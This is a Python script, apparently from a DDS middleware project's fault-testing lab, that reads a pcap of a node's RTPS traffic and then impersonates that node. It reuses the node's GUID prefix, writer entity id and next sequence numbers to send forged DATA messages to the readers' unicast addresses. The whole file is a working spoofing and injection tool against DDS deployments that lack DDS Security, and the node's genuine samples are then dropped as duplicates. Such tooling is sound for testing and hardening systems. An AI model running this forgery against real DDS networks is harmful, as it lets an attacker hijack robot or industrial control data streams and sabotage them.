#!/usr/bin/python3
# SPDX-License-Identifier: LGPL-2.1-or-later
"""A stranger that takes over a dds: node's stream at the RTPS level.

Without DDS Security nothing authenticates an RTPS message. This program,
the Python standard library only, reads a node's captured traffic (the
fault lab switch's `record` and `save`, a pcap file), finds the DATA its
stream writer sent (the payload decodes as an rfm_dds Msg naming the node
as its writer), and sends DATA of its own as that writer: the same GUID
prefix and writer entity id, the next RTPS sequence numbers, the next
librfm sequence numbers, to the readers' unicast addresses the capture
shows. The receivers take them as the node's; the node's own samples that
come later with those numbers are dropped as duplicates.

    rtps_forge.py PCAP NODE OFFSET TEXT COUNT

writes TEXT at OFFSET COUNT times (sequence numbers apart) as node NODE;
prints "forged COUNT as node NODE (guid G, writer W, rtps seq S.., librfm
seq L..) to A:P ..." and exits 0, or 1 with the reason on stderr.
"""
import socket
import struct
import sys

RTPS_DATA, RTPS_INFO_DST = 0x15, 0x0E
ENCAP_CDR_LE, ENCAP_CDR2_LE = 0x0001, 0x0007


def frames(path):
    """The pcap file's Ethernet frames."""
    with open(path, "rb") as f:
        data = f.read()
    magic = struct.unpack_from("<I", data, 0)[0]
    if magic != 0xA1B2C3D4:
        raise ValueError(f"{path}: not a little-endian pcap file")
    at = 24
    while at + 16 <= len(data):
        incl = struct.unpack_from("<I", data, at + 8)[0]
        yield data[at + 16:at + 16 + incl]
        at += 16 + incl


def udp_datagrams(path):
    """(src ip, dst ip, dst port, payload) of every unfragmented UDP/IPv4 datagram."""
    for f in frames(path):
        if len(f) < 14 + 20 or struct.unpack_from("!H", f, 12)[0] != 0x0800:
            continue
        ip = f[14:]
        ihl = (ip[0] & 0x0F) * 4
        flags_frag = struct.unpack_from("!H", ip, 6)[0]
        if ip[9] != 17 or flags_frag & 0x3FFF:
            continue  # not UDP, or a fragment
        total = struct.unpack_from("!H", ip, 2)[0]
        udp = ip[ihl:total]
        dport = struct.unpack_from("!H", udp, 2)[0]
        yield socket.inet_ntoa(ip[12:16]), socket.inet_ntoa(ip[16:20]), dport, udp[8:]


def submessages(msg):
    """(id, flags, body) of an RTPS message's submessages."""
    at = 20
    while at + 4 <= len(msg):
        sid, flags = msg[at], msg[at + 1]
        order = "<" if flags & 1 else ">"
        size = struct.unpack_from(order + "H", msg, at + 2)[0]
        end = len(msg) if size == 0 else at + 4 + size
        yield sid, flags, msg[at + 4:end]
        at = end


# The Msg of src/backends/dds/dds-wire.idl, little-endian, by encoding:
# (offset of each field, the data's length, the data).
LAYOUTS = {
    ENCAP_CDR_LE: dict(inc=0, seq=8, kind=16, writer=17, to=18, type=20, word=24, offset=32,
                       stamp=40, extra=48, len=56),
    ENCAP_CDR2_LE: dict(inc=0, seq=4, kind=12, writer=13, to=14, type=16, word=20, offset=24,
                        stamp=32, extra=40, len=48),
}
FORMATS = dict(inc="I", seq="Q", kind="B", writer="B", to="H", type="I", word="I", offset="Q",
               stamp="Q", extra="Q", len="I")


def decode(payload):
    """The Msg in a DATA's serialized payload, or None."""
    if len(payload) < 4:
        return None
    encap = struct.unpack_from(">H", payload, 0)[0]
    layout = LAYOUTS.get(encap)
    cdr = payload[4:]
    if not layout or len(cdr) < layout["len"] + 4:
        return None
    m = {k: struct.unpack_from("<" + FORMATS[k], cdr, at)[0] for k, at in layout.items()}
    m["encap"] = encap
    return m


def encode(encap, m, data):
    layout = LAYOUTS[encap]
    cdr = bytearray(layout["len"] + 4 + len(data))
    for k, at in layout.items():
        struct.pack_into("<" + FORMATS[k], cdr, at, m[k] if k != "len" else len(data))
    cdr[layout["len"] + 4:] = data
    cdr += bytes(-len(cdr) % 4)
    return struct.pack(">HH", encap, 0) + bytes(cdr)


def find_stream(path, node):
    """The node's stream writer as the capture shows it."""
    found = None
    for src, dst, dport, payload in udp_datagrams(path):
        if payload[:4] != b"RTPS":
            continue
        prefix = payload[8:20]
        for sid, flags, body in submessages(payload):
            if sid != RTPS_DATA or not flags & 0x04 or len(body) < 20:
                continue
            order = "<" if flags & 1 else ">"
            to_qos = struct.unpack_from(order + "H", body, 2)[0]
            writer_id = body[8:12]
            high, low = struct.unpack_from(order + "iI", body, 12)
            at = 4 + to_qos
            if flags & 0x02:  # inline QoS: a parameter list up to its sentinel
                while at + 4 <= len(body):
                    pid, plen = struct.unpack_from(order + "HH", body, at)
                    at += 4 + plen
                    if pid == 1:
                        break
            m = decode(body[at:])
            if not m or m["writer"] != node or not 1 <= m["kind"] <= 7:
                continue
            if found is None:
                found = dict(prefix=prefix, writer_id=writer_id, sn=0, seq=0, inc=m["inc"],
                             encap=m["encap"], dests=set())
            if prefix != found["prefix"] or writer_id != found["writer_id"]:
                continue
            found["sn"] = max(found["sn"], (high << 32) | low)
            found["seq"] = max(found["seq"], m["seq"])
            if not 224 <= int(dst.split(".")[0]) <= 239:
                found["dests"].add((dst, dport))
    return found


def data_message(s, sn, seq, offset, text):
    m = dict(inc=s["inc"], seq=seq, kind=1, writer=s["node"], to=0xFFFF, type=0, word=0,
             offset=offset, stamp=0, extra=0)
    payload = encode(s["encap"], m, text)
    body = struct.pack("<HH", 0, 16) + bytes(4) + s["writer_id"]
    body += struct.pack("<iI", sn >> 32, sn & 0xFFFFFFFF) + payload
    header = b"RTPS" + bytes([2, 1, 0x01, 0x10]) + s["prefix"]
    return header + bytes([RTPS_DATA, 0x05]) + struct.pack("<H", len(body)) + body


def main():
    if len(sys.argv) != 6:
        print(__doc__, file=sys.stderr)
        return 2
    path, node, offset, text, count = (sys.argv[1], int(sys.argv[2]), int(sys.argv[3], 0),
                                       sys.argv[4].encode(), int(sys.argv[5]))
    s = find_stream(path, node)
    if not s or not s["dests"]:
        print(f"rtps_forge: no DATA of node {node}'s stream in {path}", file=sys.stderr)
        return 1
    s["node"] = node
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for i in range(1, count + 1):
        msg = data_message(s, s["sn"] + i, s["seq"] + i, offset, text)
        for dest in sorted(s["dests"]):
            sock.sendto(msg, dest)
    print(f"forged {count} as node {node} (guid {s['prefix'].hex()}, writer "
          f"{s['writer_id'].hex()}, rtps seq {s['sn'] + 1}.., librfm seq {s['seq'] + 1}..) to "
          + " ".join(f"{a}:{p}" for a, p in sorted(s["dests"])), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main())
